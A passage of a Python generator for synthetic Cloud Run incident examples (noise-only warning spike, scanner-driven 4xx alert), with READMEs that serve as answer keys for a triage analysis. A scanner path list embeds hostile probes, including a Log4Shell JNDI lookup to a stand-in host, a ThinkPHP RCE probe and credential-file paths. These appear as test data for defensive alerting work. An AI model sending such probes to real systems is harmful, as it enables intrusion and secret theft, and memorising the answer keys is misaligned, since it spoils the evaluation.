    def api_lines(ns: int, status: int, method: str, path: str, latency: float) -> None:
        inst = ex.instance(api)
        py_log(ns - int(latency * NS_PER_S) + 20_000_000, "googleapiclient.discovery_cache", "INFO",
               "file_cache is only supported with oauth2client<4.0.0", "googleapiclient file_cache", inst)

    warning_minutes: list[int] = []
    for m in range(minutes):
        mns = t0 + m * NS_PER_MIN
        busy = burst <= m < burst + 12
        ex.traffic(mns, api, {200: r.randrange(380, 440) if busy else r.randrange(30, 40), 304: r.randrange(0, 3)},
                   api_route, ua="reports-web/3.4 (+node-fetch)", on_logged=api_lines)
        ex.traffic(mns, web, {200: r.randrange(90, 110) if busy else r.randrange(10, 16), 304: r.randrange(2, 6)},
                   lambda status: ("GET", r.choice(["/", "/reports/daily", "/assets/index-9b2e4f.js"]),
                                   r.uniform(0.005, 0.05)), ua=BROWSER_UA)
        if busy:
            # the 07:00 report run: Cloud Run scales reports-api from 2 to ~40 instances in a few minutes
            for _ in range(r.randrange(4, 7) if m < burst + 6 else r.randrange(0, 2)):
                start_instance(ex.at(mns))
            for _ in range(r.randrange(3, 6)):
                py_log(ex.at(mns), "urllib3.connectionpool", "WARNING", "Connection pool is full, discarding "
                       "connection: sheets.googleapis.com. Connection pool size: 10", "urllib3 pool full",
                       ex.instance(api))
            warning_minutes.append(m)

    # the log-based metric the alert watches: WARNING+ entries of reports-api per minute
    per_minute: Counter[int] = Counter()
    for ns, entry in ex.entries:
        labels = entry["resource"]["labels"]
        if labels.get("service_name") == "reports-api" and entry["severity"] in ("WARNING", "ERROR", "CRITICAL"):
            per_minute[ns - ns % NS_PER_MIN] += 1
    metric_type = "logging.googleapis.com/user/reports-api-warnings"
    ex.extra_series.append({"timeSeries": [{
        "metric": {"labels": {}, "type": metric_type}, "metricKind": "DELTA",
        "points": [ex._point(s, n) for s, n in sorted(per_minute.items(), reverse=True)],
        "resource": {"labels": {"configuration_name": "reports-api", "location": ex.region, "project_id": ex.project_id,
                                "revision_name": api.name, "service_name": "reports-api"},
                     "type": "cloud_run_revision"}, "valueType": "INT64"}], "unit": "1"})
    peak = max(per_minute.values())
    instances = len(ex._instances[api])
    alert_doc = threshold_alert(
        ex, service="reports-api",
        filter_=f'resource.type = "cloud_run_revision" AND resource.labels.service_name = "reports-api" AND '
                f'metric.type = "{metric_type}"',
        denominator=None, threshold=20, observed=str(peak), condition_name="reports-api warnings above 20/min",
        incident_id="0.s2jv7x4cnw8d", policy="reports-api warning log entries (staging)",
        policy_id="5508216649930017745",
        started=start + timedelta(minutes=burst + 1), severity="Warning", labels={"env": "staging"},
        doc=("Counts reports-api log entries at WARNING or above (log-based metric `reports-api-warnings`, "
             'filter `resource.type="cloud_run_revision" AND resource.labels.service_name="reports-api" AND '
             "severity>=WARNING`)."))
    readme = f"""# noise-only-spike: a warning-count alert fires on the start-up notices of a scale-out

Recorded-shape export for project `acme-reports-stg` (`us-east1`, env `staging`), 2025-12-02
06:40–07:20 UTC. Services: `reports-api` (Python 3.12, gunicorn with uvicorn workers, structured
logging through google-cloud-logging, so Python levels become severities) and `reports-web`.

## What happened

- The alert policy "reports-api warning log entries (staging)" counts entries at WARNING or above
  (log-based metric `reports-api-warnings`) and fires above 20 a minute.
- **06:58** the daily report run starts: `reports-api` starts {instances - 2} new instances within
  twelve minutes. Every request succeeds (200/304 only, latency normal).
- Every new instance logs its start-up notices, all harmless:
  - `UserWarning: Your application has authenticated using end user credentials from Google Cloud SDK
    without a quota project. You might receive a "quota exceeded" or "API not enabled" error...`
    (WARNING, `py.warnings`, once per worker: staging mounts a developer's ADC file; nothing was
    exceeded),
  - `Overriding of current TracerProvider is not allowed` (WARNING, OpenTelemetry, once per worker),
  - `Container Sandbox: Unsupported syscall setsockopt(...). It is very likely that you can safely
    ignore this message...` (WARNING, platform, gen1 sandbox),
  - gunicorn/uvicorn banners (plain text, no severity).
  Under load urllib3 adds `Connection pool is full, discarding connection: sheets.googleapis.com.
  Connection pool size: 10` (WARNING: a connection is closed instead of reused; no request fails), and
  each report logs googleapiclient's `file_cache is only supported with oauth2client<4.0.0` (INFO).
- The warning count peaks at {peak} a minute; the alert opens at 06:59.

## What a good analysis concludes

- health: reports-api HEALTHY, reports-web HEALTHY (0% 5xx; no 4xx jump).
- No root cause: there is no failure in the window. The summary says so ("No failure found: the alert
  fired on ..."), naming the harmless notices with their counts; none of them is a failure (the quota
  project warning is not "quota exhausted", the full connection pool is not resource exhaustion).
- Exactly one action: exclude these notices from the alert's filter (the policy named from the
  notification, "reports-api warning log entries (staging)"), e.g. add
  `NOT jsonPayload.message:"without a quota project" AND NOT jsonPayload.message:"Overriding of current
  TracerProvider" AND NOT textPayload:"Container Sandbox: Unsupported syscall" AND NOT
  jsonPayload.message:"Connection pool is full"` to the metric's filter.
"""
    return ex, alert_doc, readme


# =================================================================================================
# 6. A client-error-only spike: a scanner's 404s trip a 4xx alert
# =================================================================================================

SCANNED_PATHS = [
    "/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/phpinfo.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_ignition/execute-solution", "/actuator/env",
    "/actuator/heapdump", "/server-status", "/.aws/credentials", "/config.json", "/backup.sql", "/.DS_Store",
    "/api/.env", "/solr/admin/info/system?wt=json", "/console/", "/v2/_catalog", "/owa/auth/logon.aspx",
    "/cgi-bin/luci/;stok=/locale?form=country", "/telescope/requests", "/debug/default/view?panel=config",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
    "/?x=${jndi:ldap://203.0.113.77:1389/a}", "/error?msg=Cannot%20find%20module%20'express'",
]


def client_errors_only() -> tuple[Export, Json, str]:
    start = datetime(2025, 12, 4, 11, 0, tzinfo=UTC)
    ex = Export("acme-public-prd", 845002117390, "europe-west4", seed=20251204, request_share=0.05)
    r = ex.rng
    t0, minutes, scan_from, scan_to = ns_of(start), 40, 17, 29
    api = Revision("public-api", "public-api-00412-hiz")
    docs = Revision("docs-site", "docs-site-00057-raf")
    for _ in range(3):
        ex.new_instance(api)
    ex.new_instance(docs)

    def uvicorn(ns: int, status: int, method: str, path: str, latency: float) -> None:
        phrase = {200: "OK", 201: "Created", 401: "Unauthorized", 404: "Not Found", 405: "Method Not Allowed",
                  422: "Unprocessable Entity"}[status]
        ex.text(ns, api, f'INFO:     {PROXY_IP}:{r.randrange(30000, 60000)} - "{method} {path} HTTP/1.1" {status} '
                f"{phrase}", "uvicorn access")

    def api_route(status: int) -> tuple[str, str, float]:
        if status == 404:
            return "GET", f"/v2/orders/ord_{ex.hexid(5)}", r.uniform(0.004, 0.02)
        if status == 401:
            return "GET", "/v2/orders", r.uniform(0.002, 0.008)
        if status == 422:
            return "POST", "/v2/orders", r.uniform(0.004, 0.02)
        method, path = r.choice([("GET", "/v2/orders"), ("GET", "/v2/orders/ord_{h}"), ("POST", "/v2/orders"),
                                 ("GET", "/v2/products?limit=50")])
        return method, path.replace("{h}", ex.hexid(5)), r.uniform(0.02, 0.18)

    for m in range(minutes):
        mns = t0 + m * NS_PER_MIN
        ex.traffic(mns, api, {200: r.randrange(140, 160), 201: r.randrange(15, 22), 401: r.randrange(1, 4),
                              404: r.randrange(2, 6), 422: r.randrange(0, 3)}, api_route,
                   ua="acme-sdk-python/3.1.0", on_logged=uvicorn)
        ex.traffic(mns, docs, {200: r.randrange(40, 55), 304: r.randrange(6, 12), 404: r.randrange(0, 2)},
                   lambda status: ("GET", r.choice(["/", "/guides/auth", "/reference/orders", "/assets/site.css"]),
                                   r.uniform(0.002, 0.02)))
        if m % 5 == 0:
            ns = ex.at(mns)
            ex.json(ns, api, {"message": f"refreshed product cache ({r.randrange(900, 1200)} items)",
                              "logger": "app.cache"}, "app info", severity="INFO", log="stdout")
        if scan_from <= m < scan_to:
            n = r.randrange(300, 380)
            ex.requests[(api.service, api.name, 404, mns)] += n - 12
            ex.requests[(api.service, api.name, 405, mns)] += 12
            for i in range(min(n, int(n * ex.request_share + r.random()))):
                ns = ex.at(mns)
                status = 405 if i % 25 == 24 else 404
                method = "POST" if status == 405 else r.choice(["GET", "GET", "GET", "HEAD"])
                path = r.choice(SCANNED_PATHS)
                latency = r.uniform(0.001, 0.006)
                ex.request(ns, api, method, path, status, latency, ua=SCANNER_UA, remote_ip=SCANNER_IP,
                           kind="scanner 4xx")
                uvicorn(ns, status, method, path, latency)

    base = (f'resource.type = "cloud_run_revision" AND resource.labels.service_name = "{api.service}" '
            'AND metric.type = "run.googleapis.com/request_count"')
    alert_doc = threshold_alert(
        ex, service=api.service, filter_=base + ' AND metric.labels.response_code_class = "4xx"', denominator=None,
        threshold=60, observed="352", condition_name="public-api 4xx above 60/min", incident_id="0.c8pe3mz5ha9u",
        policy="public-api 4xx rate (prod)", policy_id="3390176625548110291",
        started=start + timedelta(minutes=scan_from + 2),
        severity="Warning", labels={"env": "prod", "team": "platform"},
        doc="More than 60 requests a minute to `public-api` answer 4xx.")
    readme = f"""# client-errors-only: a scanner's 404s trip the 4xx alert; the service is healthy

Recorded-shape export for project `acme-public-prd` (`europe-west4`, env `prod`), 2025-12-04
11:00–11:40 UTC. Services: `public-api` (Python, FastAPI on uvicorn; uvicorn's access log on stdout,
plain text), `docs-site`.

## What happened

- The alert policy "public-api 4xx rate (prod)" fires above 60 4xx responses a minute.
- **11:17–11:29** one client, `{SCANNER_IP}` with user agent `{SCANNER_UA}`, probes about 340 paths a
  minute that do not exist on the API: `/.env`, `/.git/config`, `/wp-login.php`, `/actuator/env`,
  `/vendor/phpunit/.../eval-stdin.php`, a Log4Shell `${{jndi:ldap://...}}` probe, even a path quoting
  an error message (`/error?msg=Cannot%20find%20module%20'express'`). Every probe answers 404 (or
  405) in a few milliseconds. The alert opens at 11:19.
- Legitimate traffic is unaffected: 200/201 at the usual rate and latency, the usual trickle of 401
  (bad API keys), 404 (unknown order ids) and 422. No 5xx, no application error.
- The request logs carry the 4xx as WARNING (Cloud Run's request log severity); the request URLs are
  attacker-controlled text.

## What a good analysis concludes

- health: public-api HEALTHY (0% 5xx; the 4xx come from one client), docs-site HEALTHY.
- No root cause: no server failure. The summary says no failure was found and that the alert fired on
  client errors (404s from one scanner). A URL that quotes failure text is a request, not a failure.
- Exactly one action naming the offending pattern: the 404s from `{SCANNER_IP}` /
  `{SCANNER_UA.split(' - ')[0]}...` probing paths such as `/.env` and `/wp-login.php`, to exclude from
  the 4xx alert (or block at the edge, e.g. a Cloud Armor rule).
"""
    return ex, alert_doc, readme


# --- writing -------------------------------------------------------------------------------------

EXAMPLES: dict[str, Callable[[], tuple[Export, Json, str]]] = {
    "ruby-rails-pg": ruby_rails_pg,
    "php-laravel-fpm": php_laravel_fpm,
    "dotnet-kestrel-token": dotnet_kestrel_token,
    "run-job-failed": run_job_failed,
    "noise-only-spike": noise_only_spike,
    "client-errors-only": client_errors_only,
}
MIN_ENTRIES, MAX_ENTRIES = 200, 1500


def check(name: str, ex: Export, logs: list[Json]) -> None:
    """Newest first, a modest size, and no minute with more request logs than Monitoring counted."""
    stamps = [parse_ns(entry["timestamp"]) for entry in logs]
    assert all(a >= b for a, b in itertools.pairwise(stamps)), f"{name}: logs not newest-first"
    assert MIN_ENTRIES <= len(logs) <= MAX_ENTRIES, f"{name}: {len(logs)} entries"
    logged: Counter[tuple[str, str, int, int]] = Counter()
    for ns, entry in ex.entries:
        if "httpRequest" in entry:
            labels = entry["resource"]["labels"]
            logged[(labels["service_name"], labels["revision_name"], entry["httpRequest"]["status"],
                    ns - ns % NS_PER_MIN)] += 1
    for key, n in logged.items():
        assert n <= ex.requests.get(key, 0), f"{name}: more request logs than counted requests for {key}"


def files_section(ex: Export, logs: list[Json], metrics: Json | list[Json]) -> str:
    responses = metrics if isinstance(metrics, list) else [metrics]
    series = sum(len(doc["timeSeries"]) for doc in responses)
    kinds = "\n".join(f"| {svc} | {kind} | {n} |" for (svc, kind), n in sorted(ex.kinds.items()))
    totals: Counter[tuple[str, str]] = Counter()
    for (svc, _rev, status, _m), n in ex.requests.items():
        totals[(svc, f"{status // 100}xx")] += n
    services = sorted({s for s, _ in totals})
    requests = "\n".join(
        f"| {svc} | {sum(n for (s, _), n in totals.items() if s == svc)} | "
        + " | ".join(str(totals[(svc, c)]) for c in ("2xx", "3xx", "4xx", "5xx")) + " |" for svc in services)
    sample = (f" (request logs are a {ex.request_share:.0%} sample of the counted requests, and application lines "
              "are sampled too: compare shapes and shares, take counts from metrics.json)" if services else "")
    text = (f"\n## Files\n\n`logs.json`: {len(logs)} LogEntry, newest first{sample}. "
            f"`metrics.json`: {len(responses)} timeSeries.list response(s), {series} series (60 s DELTA).\n"
            "Generated by `python scripts/make_stack_examples.py`; do not edit by hand.\n\n"
            "| resource | entries of kind | count |\n|---|---|---|\n" + kinds + "\n")
    if services:
        text += ("\n| service | requests (metrics) | 2xx | 3xx | 4xx | 5xx |\n|---|---|---|---|---|---|\n"
                 + requests + "\n")
    return text


def write(name: str, out: Path) -> str:
    ex, alert_doc, readme = EXAMPLES[name]()
    logs, metrics = ex.logs(), ex.metrics()
    check(name, ex, logs)
    folder = out / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "alert.json").write_text(dump(alert_doc), encoding="utf-8")
    (folder / "logs.json").write_text(dump(logs), encoding="utf-8")
    (folder / "metrics.json").write_text(dump(metrics), encoding="utf-8")
    (folder / "README.md").write_text(readme + files_section(ex, logs, metrics), encoding="utf-8")
    return f"{name}: {len(logs)} entries -> {folder}"


def main(argv: list[str] | None = None) -> int:
    return write_examples(__doc__, EXAMPLES, write, argv)


if __name__ == "__main__":
    sys.exit(main())
